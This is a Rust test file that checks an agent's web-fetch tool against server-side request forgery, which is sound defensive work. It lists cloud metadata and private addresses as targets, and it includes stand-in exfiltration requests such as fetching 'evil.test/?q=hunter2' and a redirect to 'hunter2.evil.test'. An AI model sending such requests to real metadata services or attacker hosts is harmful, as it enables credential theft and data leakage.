//! No way to what is not public, whatever a model, a page or a resolver says.
#![allow(clippy::print_stdout, reason = "counts are for whoever reads the report")]

pub(crate) mod cases;
pub(crate) mod fakes;
mod naive;
mod bombs;
mod hops;
mod tls;

use std::collections::{BTreeMap, BTreeSet};

use cases::Case;
use fakes::Fakes;
use serde_json::json;
use tooltape::{Call, Proposal, Reply, Rights, Run, Toolbox, Verdict};
use tooltape_kit::{Http, web_tools};

use crate::users::{as_each, with_variables};

/// What the runs of cases may ask. Some of it should not help: metadata services stay closed, and
/// so do addresses that are not public, whoever allows them.
const RIGHTS: [&str; 12] = [
    "net:get:example.com:80",
    "net:get:example.com:6379",
    "net:get:*.example.com:80",
    "net:get:127.0.0.1:80",
    "net:get:[::1]:80",
    "net:get:localhost:80",
    "net:get:10.0.0.1:80",
    "net:get:169.254.169.254:80",
    "net:get:metadata.google.internal:80",
    "net:get:[fd00:ec2::254]:80",
    "net:get:100.100.100.200:80",
    "net:get:168.63.129.16:80",
];

/// A run that may ask for these pages.
pub(crate) fn run_with(http: Http, rights: &str) -> Run {
    let toolbox = Toolbox::new(web_tools()).unwrap();
    let rights: Rights = rights.parse().unwrap();
    Run::new(&toolbox).policy(|_: &Call| Verdict::allow("all")).grant(http.allow(rights))
}

/// Makes one call of `web_fetch`.
pub(crate) fn fetch(run: &Run, args: &serde_json::Value) -> Reply {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    let proposal = Proposal::new("c", "web_fetch", args.to_string());
    runtime.block_on(run.batch(vec![proposal])).unwrap().remove(0)
}

fn prepare(fakes: &Fakes, case: &Case) {
    fakes.clear().says("example.com/again", "content-type: text/plain", "again");
    for (from, to) in &case.redirects {
        fakes.redirects(from, to);
    }
    fakes.name("a.example.com", &[&[fakes::PUBLIC[1]]]);
    fakes.name("example.com", &[&[fakes::PUBLIC[0]]]);
    for (name, answers) in &case.names {
        let answers: Vec<Vec<&str>> =
            answers.iter().map(|answer| answer.iter().map(String::as_str).collect()).collect();
        let answers: Vec<&[&str]> = answers.iter().map(Vec::as_slice).collect();
        fakes.name(name, &answers);
    }
}

#[test]
fn no_spelling_redirect_or_answer_of_a_resolver_leads_inside() {
    as_each("net::no_spelling_redirect_or_answer_of_a_resolver_leads_inside", |_| {
        let fakes = Fakes::new();
        let (mut families, mut escapes, mut caught) = (BTreeMap::new(), Vec::new(), 0);
        let mut cves = BTreeSet::new();
        let cases = cases::all();
        for case in &cases {
            *families.entry(case.family).or_insert(0) += 1;
            cves.extend(case.cve);
            prepare(&fakes, case);
            let run = run_with(fakes.http(), &RIGHTS.join("\n"));
            let reply = fetch(&run, &json!({ "url": case.url }));
            if !fakes.is_safe() || reply.text().contains("CANARY") {
                escapes.push(format!("{} {}: {}", case.family, case.name, reply.text()));
            }
            prepare(&fakes, case);
            let answer = naive::get(&fakes, &case.url, &["example.com", "127.1", ""]);
            drop(answer);
            caught += usize::from(!fakes.is_safe());
        }
        let count = cases.len();
        println!("net: {count} cases {families:?}, {} escapes, control {caught}", escapes.len());
        println!("net: acted out {cves:?}");
        assert!(escapes.is_empty(), "{escapes:#?}");
        assert!(count >= 700 && caught >= 300 && cves.len() >= 9, "{count} {caught} {cves:?}");
        // The same run gets what it may have.
        fakes.clear().says("example.com/", "content-type: text/plain", "hello");
        let run = run_with(fakes.http(), &RIGHTS.join("\n"));
        assert!(fetch(&run, &json!({ "url": "http://example.com/" })).text().contains("hello"));
    });
}

#[test]
fn an_empty_list_of_hosts_is_nobody() {
    // CVE-2025-66479: an empty list was taken for none.
    let fakes = Fakes::new();
    for (rights, url, is_asked) in [
        ("", "http://example.com/", false),
        ("net:get:example.com:80", "http://example.com/", true),
        ("net:get:example.com", "http://example.com/", false),
        ("net:post:example.com:80", "http://example.com/", false),
        ("net:get:*.example.com:80", "http://example.com/", false),
        ("net:get:*.example.com:80", "http://a.example.com/", true),
        ("net:get:example.com:80\nfs:read:.", "http://example.org/", false),
    ] {
        fakes.clear();
        for host in ["example.com/", "a.example.com/", "example.org/"] {
            fakes.says(host, "content-type: text/plain", "hello");
        }
        let reply = fetch(&run_with(fakes.http(), rights), &json!({ "url": url }));
        assert_eq!(!reply.is_error, is_asked, "{rights} {url}: {}", reply.text());
        assert_eq!(fakes.log(|log| log.dialled.len()), usize::from(is_asked), "{rights} {url}");
        if rights.is_empty() {
            assert!(naive::get(&fakes, url, &[]).is_some(), "the control asks");
        }
    }
    for all in ["net:get:*", "net:any:*", "net:get:*.com", "net:get:", "net:get:*:80"] {
        assert!(all.parse::<Rights>().is_err(), "{all}");
    }
}

#[test]
fn nobody_looks_up_a_name_that_may_not_be_asked() {
    // NET-09: a question to a name server tells the owner of the name what stands in it.
    let fakes = Fakes::new();
    fakes.redirects("example.com/", "http://hunter2.evil.test/");
    let run = run_with(fakes.http(), "net:get:example.com:80");
    for url in ["http://hunter2.evil.test/", "http://example.com/"] {
        assert!(fetch(&run, &json!({ "url": url })).is_error);
    }
    assert_eq!(fakes.log(|log| log.names.clone()), ["example.com"]);
}

#[test]
fn a_private_host_is_asked_only_where_a_host_names_it_by_name_and_port() {
    let fakes = Fakes::new();
    let rights = "net:get:dev.test:8080\nnet:get:dev.test:8081\nnet:get:other.test:8080\n\
                  net:get:meta.test:8080\nnet:get:[fd00:ec2::254]:8080";
    let host = |text: &str| text.parse().unwrap();
    let port = 8080.try_into().unwrap();
    let http = fakes.http().private(host("dev.test"), port).private(host("meta.test"), port);
    let run = run_with(http.private(host("[fd00:ec2::254]"), port), rights);
    for (url, answer, inside) in [
        ("http://dev.test:8080/", "127.0.0.1", 1),
        ("http://dev.test:8080/", "10.0.0.7", 1),
        ("http://dev.test:8081/", "127.0.0.1", 0),
        ("http://other.test:8080/", "127.0.0.1", 0),
        ("http://meta.test:8080/", "169.254.169.254", 0),
        ("http://meta.test:8080/", "169.254.7.7", 0),
        ("http://meta.test:8080/", "::ffff:127.0.0.1", 0),
        ("http://meta.test:8080/", "0.0.0.0", 0),
        ("http://[fd00:ec2::254]:8080/", "127.0.0.1", 0),
    ] {
        fakes.clear();
        for name in ["dev.test", "other.test", "meta.test"] {
            fakes.name(name, &[&[answer]]);
        }
        let reply = fetch(&run, &json!({ "url": url }));
        let found = fakes.log(|log| (log.dialled.len(), reply.text().contains("CANARY")));
        assert_eq!(found, (inside, inside == 1), "{url} {answer}: {}", reply.text());
    }
}

#[test]
fn nothing_that_lies_around_is_used() {
    // NET-08: the proxies, passwords, cookies and certificates of whoever starts the program. The
    // variables are those of a process of its own.
    with_variables(
        "net::nothing_that_lies_around_is_used",
        &[
            ("HTTP_PROXY", "http://127.0.0.1:9/"),
            ("http_proxy", "http://127.0.0.1:9/"),
            ("HTTPS_PROXY", "http://127.0.0.1:9/"),
            ("ALL_PROXY", "socks5://127.0.0.1:9/"),
            ("NETRC", "/dev/stdin"),
            ("SSL_CERT_FILE", "/nonexistent"),
        ],
        || {
            let fakes = Fakes::new();
            let cookie = "set-cookie: a=b\ncontent-type: text/plain";
            fakes.says("example.com/", cookie, "one").says("example.com/2", cookie, "two");
            let run = run_with(fakes.http(), "net:get:example.com:80");
            for url in ["http://example.com/", "http://example.com/2"] {
                assert!(!fetch(&run, &json!({ "url": url })).is_error);
            }
            let (heads, dialled) = fakes.log(|log| (log.heads.clone(), log.dialled.clone()));
            assert_eq!(dialled.len(), 2, "a connection for each, and none to a proxy");
            for head in heads {
                let fields: Vec<&str> = head.lines().skip(1).collect();
                let names = fields.iter().filter_map(|field| field.split_once(':'));
                let mut names: Vec<&str> = names.map(|(name, _)| name).collect();
                names.sort_unstable();
                assert_eq!(names, ["accept-encoding", "connection", "host", "user-agent"]);
            }
        },
    );
}

#[test]
fn what_was_seen_is_told_only_to_hosts_that_may_be_told() {
    // NET-09: what a run has seen leaves in a path or a query as well as in a body.
    let fakes = Fakes::new();
    fakes.says("evil.test/?q=hunter2", "content-type: text/plain", "thanks");
    let rights = "net:get:evil.test:80\nnet:get:example.com:80";
    for (label, code) in [
        (tooltape::Label::secret("payroll"), "denied"),
        (tooltape::Label::internal(), "denied"),
        (tooltape::Label::default(), "ok"),
    ] {
        let run = run_with(fakes.http(), rights).labelled(label.clone());
        let reply = fetch(&run, &json!({ "url": "http://evil.test/?q=hunter2" }));
        let found = reply.fault.as_ref().map_or("ok", |fault| &fault.code);
        assert_eq!(found == "ok", code == "ok", "{label}: {}", reply.text());
    }
    assert_eq!(fakes.log(|log| log.heads.len()), 1);
}
